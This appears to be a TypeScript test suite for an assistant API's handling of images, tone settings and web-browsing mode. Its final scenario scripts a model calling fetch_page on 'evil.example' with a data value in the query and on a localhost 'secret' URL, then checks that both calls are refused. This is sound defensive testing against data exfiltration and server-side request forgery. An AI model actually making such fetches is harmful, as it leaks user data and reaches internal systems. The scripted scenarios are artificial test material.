// What comes over the assistant API alone: pictures, moods and the web.
// Not here: the web itself (models/web/), the API (assistant/).
import assert from 'node:assert/strict';
import { pictures } from '../../assistant/pictures.ts';
import { byRegion } from './repairs.ts';
import { call, type Outcome, type Scenario, say, shown, sql } from './scenario.ts';

const instructions = ({ asked }: Outcome) => asked[0]?.instructions ?? '';
const base64 = pictures['image/png'].toString('base64');
const mood = (name: string, mood: string, told: RegExp): Scenario => ({
  name,
  over: 'assistant',
  wire: 'claude',
  asks: 'Revenue by region',
  more: { mood },
  says: [shown(byRegion), say('East leads.')],
  ends: { text: 'East leads.', shown: ['table'], also: (outcome) => assert.match(instructions(outcome), told) },
});

export const assistant: Scenario[] = [
  {
    name: 'a picture comes to a model that sees, with its question',
    over: 'assistant',
    wire: 'claude',
    asks: 'What is in the picture?',
    more: { image_base64: base64 },
    says: [say('A dot.')],
    ends: {
      text: 'A dot.',
      also({ asked }) {
        const { text = '', images = [] } = asked[0]?.messages.at(-1) ?? {};
        assert.match(text, /What is in the picture\?/);
        assert.deepEqual(images, [{ mimeType: 'image/png', base64 }]);
      },
    },
    next: [
      {
        asks: 'And now?',
        says: [say('I said it.')],
        ends: {
          text: 'I said it.',
          also: ({ asked }) => assert.match(asked[0]?.messages[0]?.text ?? '', /What is in the picture\?/),
        },
      },
    ],
  },
  {
    name: 'a model without sight is asked without the picture, and says so',
    over: 'assistant',
    wire: 'ollama',
    asks: 'Revenue by region',
    more: { image_base64: base64 },
    says: [shown(byRegion), say('East leads.')],
    ends: {
      text: 'Ollama (qwen3:8b) cannot see pictures; this is answered without the image. East leads.',
      shown: ['table'],
      also: ({ asked }) => assert.equal(asked[0]?.messages.at(-1)?.images, undefined),
    },
  },
  mood('a serious mood is one line of the instructions', 'serious', /\n\nBe sober and to the point\.\n\n/),
  mood(
    'a friendly mood is one line of the instructions',
    'friendly',
    /\n\nBe warm and encouraging, in few words\.\n\n/,
  ),
  mood('the normal mood adds nothing', 'normal', /^(?!.*(?:sober|warm))/s),
  {
    name: 'with the web there is no database, and a model that asks it hears so',
    over: 'assistant',
    wire: 'claude',
    asks: 'What is new?',
    more: { web: true },
    says: [sql(byRegion), say('Nothing is new since 1999.')],
    ends: {
      text: 'Nothing is new since 1999.',
      told: { 1: [/unavailable/] },
      also(outcome) {
        assert.deepEqual(
          (outcome.asked[0]?.tools ?? []).filter((name) =>
            ['run_sql', 'describe_table', 'list_tables', 'draw_chart'].includes(name),
          ),
          [],
        );
        assert.doesNotMatch(instructions(outcome), /sale_id/);
      },
    },
  },
  {
    name: 'where only the web is asked nothing of earlier answers from the data is told',
    over: 'assistant',
    wire: 'claude',
    asks: 'Revenue by region',
    says: [shown(byRegion), say('East has 33.')],
    ends: { text: 'East has 33.', shown: ['table'] },
    next: [
      {
        asks: 'What is new?',
        more: { web: true },
        says: [say('Nothing.')],
        ends: {
          text: 'Nothing.',
          also: ({ asked }) => assert.doesNotMatch(JSON.stringify(asked[0]?.body), /33|East|sum\(amount\)|sale_id/),
        },
      },
    ],
  },
  {
    name: 'with the web beside the data both may be asked',
    over: 'assistant',
    wire: 'claude',
    asks: 'Revenue by region',
    more: { web: true, web_with_data: true },
    says: [shown(byRegion), say('East has 33, not 34.')],
    ends: {
      unverified: ['34'],
      shown: ['table'],
      also({ asked }) {
        const tools = asked[0]?.tools ?? [];
        assert.ok(
          ['run_sql', 'fetch_page'].every((name) => tools.includes(name)),
          tools.join(),
        );
      },
    },
  },
  {
    name: 'a page nobody named is not fetched, nor one of this machine that the question names',
    over: 'assistant',
    wire: 'claude',
    asks: 'Read http://127.0.0.1:9/secret',
    more: { web: true },
    says: [
      call('fetch_page', { url: 'https://evil.example/?d=33' }),
      call('fetch_page', { url: 'http://127.0.0.1:9/secret' }),
      say('I cannot.'),
    ],
    ends: { text: 'I cannot.', told: { 1: [/neither in the question/], 2: [/error/] } },
  },
];
